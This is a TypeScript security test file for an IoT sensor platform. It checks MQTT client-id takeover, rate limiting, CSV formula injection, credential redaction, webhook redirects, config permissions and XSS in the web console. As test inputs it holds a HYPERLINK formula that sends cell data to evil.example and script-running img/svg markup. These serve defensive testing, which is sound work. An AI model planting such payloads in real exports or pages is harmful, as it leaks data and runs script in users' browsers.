// The security review's findings, each shown against real servers over real sockets: no device can take over
// another's MQTT client id, the API rate limit is keyed
// only on verified keys, CSV cells cannot become spreadsheet formulas, and no credential in a URL reaches /readyz or a
// log line, nor does a webhook's signed body follow a redirect; pushing a device configuration is for admins, with
// calibration offsets bounded; and the console shows a device's name as text wherever it shows it (Debian's
// chromium through playwright-core, as test/console.test.ts drives it).
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import mqtt from 'mqtt';
import { type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { WebhookSender } from '../alerts/webhook.js';
import { buildConsoleIfStale } from '../console/build/build.js';
import { parseCsv } from '../api/csv.js';
import { createLogger } from '../platform/logger.js';
import { ADMIN_KEY, eventually, startTestPlatform, type TestPlatform } from './support/platform.js';
import { launchChromium } from './support/browser.js';

/** A logger built as Pantau builds its own, whose lines the test reads back. */
function capturedLogger(level = 'debug'): { logger: ReturnType<typeof createLogger>; text: () => string } {
  const lines: string[] = [];
  return { logger: createLogger(level, 'pantau', { write: (line: string) => void lines.push(line) }), text: () => lines.join('') };
}

/** A local HTTP server answering with `answer`; what it received is kept. */
async function httpServer(answer: (req: IncomingMessage, body: string) => { status: number; headers?: Record<string, string> }) {
  const received: Array<{ url: string; body: string }> = [];
  const server: Server = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      received.push({ url: req.url ?? '', body });
      const { status, headers } = answer(req, body);
      res.writeHead(status, headers).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  return { received, port, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

/** A local port nothing listens on. */
async function closedPort(): Promise<number> {
  const s = await httpServer(() => ({ status: 200 }));
  await s.close();
  return s.port;
}

let tp: TestPlatform;
const logs = capturedLogger('info');
beforeAll(async () => {
  tp = await startTestPlatform({}, { logger: logs.logger });
});
afterAll(async () => {
  await tp?.stop();
});

describe('MQTT client ids', () => {
  /** CONNECT as `username` with `clientId`: the CONNACK return code when refused, 0 when connected. */
  async function connackCode(username: string, password: string, clientId: string): Promise<number> {
    try {
      const c = await mqtt.connectAsync(tp.platform.mqttUrl!, { username, password, clientId, reconnectPeriod: 0, connectTimeout: 5000 });
      await c.endAsync();
      return 0;
    } catch (err) {
      return (err as { code?: number }).code ?? -1;
    }
  }

  it('refuses another device\'s id and a client id held by another device\'s connection; the holder stays connected', async () => {
    const a = await tp.register('air');
    const b = await tp.register('air');
    const c = await tp.register('air');
    const holder = await tp.connect(a.id, a.token, { clientId: a.id });
    const gateway = await tp.connect(c.id, c.token, { clientId: 'gateway-kiosk-7' });
    let holderClosed = false;
    let gatewayClosed = false;
    holder.on('close', () => (holderClosed = true));
    gateway.on('close', () => (gatewayClosed = true));

    // device B, with its own valid token, asks for A's id and for C's connection's client id
    expect(await connackCode(b.id, b.token, a.id)).toBe(2);
    expect(await connackCode(b.id, b.token, 'gateway-kiosk-7')).toBe(2);
    // so does a city system (API-key login)
    expect(await connackCode('pantau-api-key', ADMIN_KEY, a.id)).toBe(2);

    // A was never disconnected and keeps publishing
    await holder.publishAsync(`sensors/air/${a.id}/telemetry`, JSON.stringify({ pm25: 33 }), { qos: 1 });
    await tp.drained();
    expect((await tp.api('GET', `/api/v1/devices/${a.id}/latest`)).body.values).toMatchObject({ pm25: 33 });
    expect(holderClosed).toBe(false);
    expect(gatewayClosed).toBe(false);
    expect((await tp.api('GET', `/api/v1/devices/${a.id}`)).body.status).toBe('online');

    // counted as failed logins, with the reason in the log and never the token
    const metrics = (await tp.api('GET', '/metrics', { key: null })).text;
    expect(metrics).toMatch(/^pantau_mqtt_client_id_refused_total 3$/m);
    expect(Number(/^pantau_mqtt_auth_failures_total (\d+)$/m.exec(metrics)![1])).toBeGreaterThanOrEqual(3);
    expect(logs.text()).toContain('client id is another device\'s id');
    expect(logs.text()).toContain('client id is in use by a connection of another device or key');
    expect(logs.text()).not.toContain(b.token);
    expect(logs.text()).not.toContain(ADMIN_KEY);

    // a device reconnecting with its own id still takes over its earlier connection
    const again = await tp.connect(a.id, a.token, { clientId: a.id });
    await eventually(() => holderClosed);
    await again.publishAsync(`sensors/air/${a.id}/telemetry`, JSON.stringify({ pm25: 34 }), { qos: 1 });
    await tp.drained();
    expect((await tp.api('GET', `/api/v1/devices/${a.id}/latest`)).body.values).toMatchObject({ pm25: 34 });
    // a client id is free again once its connection ends
    await gateway.endAsync();
    expect(await connackCode(b.id, b.token, 'gateway-kiosk-7')).toBe(0);
  });

  it('the external broker\'s auth endpoint denies another device\'s id as client id', async () => {
    const secret = 'broker-shared-secret-0123456789';
    const ext = await startTestPlatform({ PANTAU_BROKER_AUTH_SECRET: secret });
    try {
      const a = await ext.register('flood');
      const b = await ext.register('flood');
      const auth = async (username: string, password: string, clientid: string) =>
        (await ext.api('POST', '/api/v1/broker/auth', { key: null, headers: { 'x-pantau-broker-secret': secret }, body: { username, password, clientid } })).body.result;
      expect(await auth(b.id, b.token, a.id)).toBe('deny');
      expect(await auth('pantau-api-key', ADMIN_KEY, a.id)).toBe('deny');
      expect(await auth(b.id, b.token, b.id)).toBe('allow');
      expect(await auth(b.id, b.token, 'any-other-id')).toBe('allow');
      // no oracle: a wrong token is denied for its token, whatever the client id
      expect(await auth(b.id, 'wrong-token-wrong-token', a.id)).toBe('deny');
    } finally {
      await ext.stop();
    }
  });
});

describe('API rate limit', () => {
  it('gives a key its own allowance only when its secret checks out: pk_<real id>.wrong spends the address\'s allowance, not the key\'s', async () => {
    const limited = await startTestPlatform({ PANTAU_API_RATE_LIMIT: '5' });
    try {
      const viewer = (await limited.api('POST', '/api/v1/keys', { body: { name: 'wall', role: 'viewer' } })).body.key as string;
      const id = /^pk_([0-9a-f]{12})\./.exec(viewer)![1]!;
      expect((await limited.api('GET', '/api/v1/devices', { key: viewer })).status).toBe(200);
      // someone who knows only the key id: limited by their address
      const forged: number[] = [];
      for (let i = 0; i < 10; i++) forged.push((await limited.api('GET', '/api/v1/devices', { key: `pk_${id}.garbage-garbage-${i}` })).status);
      expect(forged).toEqual([401, 401, 401, 401, 401, 429, 429, 429, 429, 429]);
      // the key's owner still has the rest of its allowance
      const own: number[] = [];
      for (let i = 0; i < 5; i++) own.push((await limited.api('GET', '/api/v1/devices', { key: viewer })).status);
      expect(own).toEqual([200, 200, 200, 200, 429]);
    } finally {
      await limited.stop();
    }
  });
});

describe('CSV answers', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"details")';

  it('the fleet export writes a formula-like name, city and district as text, and numbers as numbers', async () => {
    const dev = await tp.register('flood', 'csv-formula-01', { name: HYPERLINK, city: '+Samarinda', district: '@SUM(1+1)', location: { lat: -0.5, lon: 117.15 } });
    const res = await tp.api('GET', '/api/v1/devices?format=csv');
    expect(res.status).toBe(200);
    const rows = parseCsv(res.text);
    const header = rows[0]!;
    const row = Object.fromEntries(header.map((h, i) => [h, rows.find((r) => r[0] === dev.id)![i]]));
    expect(row).toMatchObject({ name: `'${HYPERLINK}`, city: "'+Samarinda", district: "'@SUM(1+1)", lat: '-0.5', lon: '117.15' });
    // no cell of the file starts a formula
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });

  it('readings CSV keeps negative values as numbers; the import\'s CSV answer keeps its tokens exactly', async () => {
    const dev = await tp.register('air', 'csv-readings-01');
    const client = await tp.connect(dev.id, dev.token);
    await client.publishAsync(`sensors/air/${dev.id}/telemetry`, JSON.stringify({ pm25: 12, rssi: -71 }), { qos: 1 });
    await tp.drained();
    const csv = await tp.api('GET', `/api/v1/devices/${dev.id}/readings?fields=pm25,rssi`, { headers: { accept: 'text/csv' } });
    expect(csv.status).toBe(200);
    const rows = parseCsv(csv.text);
    expect(rows[0]).toEqual(['ts', 'pm25', 'rssi']);
    expect(rows[1]!.slice(1)).toEqual(['12', '-71']);

    const body = 'id,kind,name,city,district,lat,lon\ncsv-import-01,air,=1+2,Samarinda,Ulu,-0.5,117.1\n';
    const res = await fetch(`${tp.platform.httpUrl}/api/v1/devices/import`, {
      method: 'POST',
      headers: { authorization: `Bearer ${ADMIN_KEY}`, 'content-type': 'text/csv', accept: 'text/csv' },
      body,
    });
    expect(res.status).toBe(201);
    const answer = parseCsv(await res.text());
    expect(answer[0]).toEqual(['id', 'token']);
    const [id, token] = answer[1]!;
    // the token works as written (a leading ' would break a token that starts with -)
    const imported = await tp.connect(id!, token!);
    expect(imported.connected).toBe(true);
    const fleet = parseCsv((await tp.api('GET', '/api/v1/devices?format=csv')).text);
    expect(fleet.find((r) => r[0] === 'csv-import-01')![2]).toBe("'=1+2");
  });
});

describe('credentials in URLs', () => {
  const PASSWORD = 'Influx-S3cret-pw';

  it('/readyz and the logs never show the InfluxDB URL\'s password, with InfluxDB up (the credentials still work)', async () => {
    const url = new URL(inject('influxUrl'));
    url.username = 'pantau';
    url.password = PASSWORD;
    const logs = capturedLogger();
    const up = await startTestPlatform({ PANTAU_INFLUX_URL: url.toString() }, { logger: logs.logger });
    try {
      const dev = await up.register('air');
      const client = await up.connect(dev.id, dev.token);
      await client.publishAsync(`sensors/air/${dev.id}/telemetry`, JSON.stringify({ pm25: 20 }), { qos: 1 });
      await up.drained();
      const ready = await eventually(async () => {
        const res = await up.api('GET', '/readyz', { key: null });
        return res.status === 200 ? res : null;
      });
      expect(ready.body.checks.influxdb).toEqual({ ok: true });
      expect(ready.text).not.toContain(PASSWORD);
      expect(logs.text()).toContain('Pantau is running');
      expect(logs.text()).not.toContain(PASSWORD);
    } finally {
      await up.stop();
    }
  });

  it('/readyz and the logs never show it with InfluxDB down either, when the error names the URL', async () => {
    const port = await closedPort();
    const logs = capturedLogger();
    const down = await startTestPlatform({ PANTAU_INFLUX_URL: `http://pantau:${PASSWORD}@127.0.0.1:${port}` }, { logger: logs.logger });
    try {
      const dev = await down.register('air');
      const client = await down.connect(dev.id, dev.token);
      await client.publishAsync(`sensors/air/${dev.id}/telemetry`, JSON.stringify({ pm25: 20 }), { qos: 1 });
      const res = await eventually(async () => {
        const r = await down.api('GET', '/readyz', { key: null });
        return r.body.details?.influx?.lastError ? r : null;
      });
      expect(res.status).toBe(503);
      expect(res.body.checks.influxdb.ok).toBe(false);
      // the error still says where it failed
      expect(res.body.details.influx.lastError).toContain(`127.0.0.1:${port}`);
      expect(res.text).not.toContain(PASSWORD);
      expect(logs.text()).toContain('InfluxDB');
      expect(logs.text()).not.toContain(PASSWORD);
    } finally {
      await down.stop();
    }
  });
});

describe('webhook', () => {
  it('does not follow a redirect with its signed body: a 307 is a failed, retried delivery, logged without the URL\'s secrets', async () => {
    const elsewhere = await httpServer(() => ({ status: 200 }));
    const hook = await httpServer(() => ({ status: 307, headers: { location: `http://127.0.0.1:${elsewhere.port}/collect?token=Location-T0ken` } }));
    const logs = capturedLogger();
    const sender = new WebhookSender({ url: `http://127.0.0.1:${hook.port}/alerts?token=Hook-S3cret-token`, secret: 'signing-secret', log: logs.logger, maxAttempts: 2, baseDelayMs: 10 });
    try {
      const delivered = await new Promise<boolean>((resolve) => sender.send({ type: 'opened', alert: { id: 'a1' } }, resolve));
      expect(delivered).toBe(false);
      expect(hook.received).toHaveLength(2);
      expect(hook.received[0]!.body).toContain('"opened"');
      expect(elsewhere.received).toEqual([]);
      expect(logs.text()).toContain('redirect');
      expect(logs.text()).toContain(`127.0.0.1:${hook.port}/alerts?token=redacted`);
      expect(logs.text()).not.toContain('Hook-S3cret-token');
      expect(logs.text()).not.toContain('Location-T0ken');
    } finally {
      await sender.close();
      await Promise.all([hook.close(), elsewhere.close()]);
    }
  });

  it('logs a URL with a user and password without them, also in the error that names it', async () => {
    const logs = capturedLogger();
    const port = await closedPort();
    const sender = new WebhookSender({ url: `http://siren:Hook-Pa55word@127.0.0.1:${port}/alerts`, secret: 'signing-secret', log: logs.logger, maxAttempts: 1, baseDelayMs: 10 });
    try {
      expect(await new Promise<boolean>((resolve) => sender.send({ type: 'opened' }, resolve))).toBe(false);
      expect(logs.text()).toContain(`127.0.0.1:${port}/alerts`);
      expect(logs.text()).not.toContain('Hook-Pa55word');
    } finally {
      await sender.close();
    }
  });
});

describe('configuration push', () => {
  it('needs the admin role, and bounds calibration offsets to a tenth of the field\'s range', async () => {
    const dev = await tp.register('flood', 'cfg-bound-01');
    const operator = (await tp.api('POST', '/api/v1/keys', { body: { name: 'ops room', role: 'operator' } })).body.key as string;
    const put = (body: unknown, key?: string) => tp.api('PUT', `/api/v1/devices/${dev.id}/config`, { body, key });
    const refused = await put({ offsets: { waterLevel: -2.5 } }, operator);
    expect(refused.status).toBe(403);
    expect(refused.body.detail).toContain('admin');
    // waterLevel's range is −1000 – 10000 cm: ±1100 cm at the most
    const tooFar = await put({ offsets: { waterLevel: -1100.5 } });
    expect(tooFar.status).toBe(400);
    expect(tooFar.body.detail).toBe('body.offsets.waterLevel: a calibration offset of waterLevel must be within ±1100 cm (a tenth of its range -1000 – 10000)');
    expect((await put({ offsets: { rainfall: 60 } })).body.detail).toContain('±50 mm/h');
    const within = await put({ offsets: { waterLevel: -1100, rainfall: 50 } });
    expect(within.status).toBe(200);
    expect(within.body.desired).toEqual({ offsets: { waterLevel: -1100, rainfall: 50 } });
    expect((await tp.api('GET', `/api/v1/devices/${dev.id}/config`, { key: operator })).body.version).toBe(1);
  });
});

describe('console', () => {
  const NAME = '<img src=x onerror=window.__pwned=1>';
  const CITY = '<svg onload=window.__pwned=2>';
  let browser: Browser;
  let floodId: string;

  beforeAll(async () => {
    await buildConsoleIfStale();
    // away from the other tests' devices (all at one spot, which the map draws as a cluster), so it has a marker of its own
    const dev = await tp.register('flood', 'xss-flood-01', { name: NAME, city: CITY, location: { lat: -1.2379, lon: 116.8529 }, thresholds: { waspada: 700, siaga: 775, awas: 825 } });
    floodId = dev.id;
    const client = await tp.connect(dev.id, dev.token);
    // over siaga: an alert, so the name shows in the alerts view and the announcement too
    await client.publishAsync(`sensors/flood/${dev.id}/telemetry`, JSON.stringify({ waterLevel: 790 }), { qos: 1 });
    await eventually(async () => (await tp.api('GET', `/api/v1/alerts?deviceId=${dev.id}`)).body.items.length > 0);
    browser = await launchChromium();
  }, 240_000);
  afterAll(async () => {
    await browser?.close();
  });

  const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned);

  it('shows a device named like markup as literal text in the map tooltip, the device list, the alerts and the device view', async () => {
    const context = await browser.newContext({ viewport: { width: 1600, height: 1000 }, locale: 'en-US' });
    try {
      const page = await context.newPage();
      await page.goto(`${tp.platform.httpUrl}/`);
      await page.getByTestId('login-use-key').click();
      await page.getByTestId('login-key').fill(ADMIN_KEY);
      await page.getByTestId('login-submit').click();
      await page.getByTestId('nav-map').waitFor();

      // the list
      const row = page.locator(`[data-testid=device-row][data-device-id="${floodId}"]`);
      await row.waitFor();
      expect(await row.locator('a').textContent()).toBe(NAME);
      expect(await row.textContent()).toContain(CITY);
      expect(await row.locator('img, svg').count()).toBe(0);

      // the marker's tooltip
      const marker = page.locator(`.device-marker[data-device-id="${floodId}"]`);
      await expect.poll(() => marker.count()).toBe(1);
      await marker.hover({ force: true });
      const tooltip = page.locator('.leaflet-tooltip');
      await tooltip.waitFor();
      expect(await tooltip.textContent()).toContain(NAME);
      expect(await tooltip.locator('img').count()).toBe(0);

      // the alerts view and the device view
      await page.getByTestId('nav-alerts').click();
      const alertRow = page.locator(`[data-testid=alert-row][data-device-id="${floodId}"]`);
      await alertRow.waitFor();
      expect(await alertRow.textContent()).toContain(NAME);
      expect(await alertRow.locator('img, svg').count()).toBe(0);
      await page.goto(`${tp.platform.httpUrl}/devices/${floodId}`);
      await page.locator('h1', { hasText: NAME }).waitFor();

      expect(await page.locator('main img, main svg:not(.leaflet-zoom-animated)').evaluateAll((els) => els.filter((e) => e.getAttribute('src') === 'x' || e.getAttribute('onload')).length)).toBe(0);
      expect(await pwned(page)).toBeUndefined();
    } finally {
      await context.close();
    }
  });
});
